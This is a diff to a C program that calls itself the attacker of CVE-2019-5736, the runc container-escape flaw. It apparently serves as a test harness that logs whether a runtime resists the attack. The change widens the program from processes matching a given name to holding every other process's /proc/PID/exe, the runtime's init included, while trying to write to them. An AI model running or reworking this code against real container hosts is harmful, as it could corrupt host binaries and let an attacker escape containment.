@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: MIT */
-/* holdexe NAME -- the attacker of CVE-2019-5736: holds every /proc/PID/exe
- * whose path ends in NAME (or is a memfd or deleted file of that name) and tries
- * to write to it until killed.  Appends "held" and "wrote" to the file log. */
+/* holdexe -- the attacker of CVE-2019-5736: holds the /proc/PID/exe of every
+ * other process, the runtime's init among them, and tries to write to it until
+ * killed.  Appends "held" and "wrote" to the file log. */
 #include <dirent.h>
 #include <fcntl.h>
 #include <signal.h>
@@ -24,19 +24,11 @@ say(const char *s)
 }
 
 static void
-hold(const char *pid, const char *name)
+hold(const char *pid)
 {
-	char path[64], text[512], *s;
-	ssize_t n;
+	char path[300];
 
 	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
-	n = readlink(path, text, sizeof(text) - 1);
-	if (n < 0)
-		return;
-	text[n] = 0;
-	s = strrchr(text, '/');
-	if (!s || !strstr(s, name))
-		return;
 	if (n_held == HELD_MAX)
 		close(held[--n_held]);
 	held[n_held] = open(path, O_PATH);
@@ -65,12 +57,12 @@ attack(void)
 }
 
 int
-main(int argc, char **argv)
+main(void)
 {
 	struct timespec nap = { 0, 200000 };
 
 	log_fd = open("log", O_WRONLY | O_CREAT | O_APPEND, 0600);
-	if (argc != 2 || log_fd < 0)
+	if (log_fd < 0)
 		return 2;
 	say("ready\n");
 	for (;;) {
@@ -82,7 +74,7 @@ main(int argc, char **argv)
 		while ((e = readdir(d)))
 			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' &&
 			    strtol(e->d_name, NULL, 10) != getpid())
-				hold(e->d_name, argv[1]);
+				hold(e->d_name);
 		closedir(d);
 		attack();
 		nanosleep(&nap, NULL);
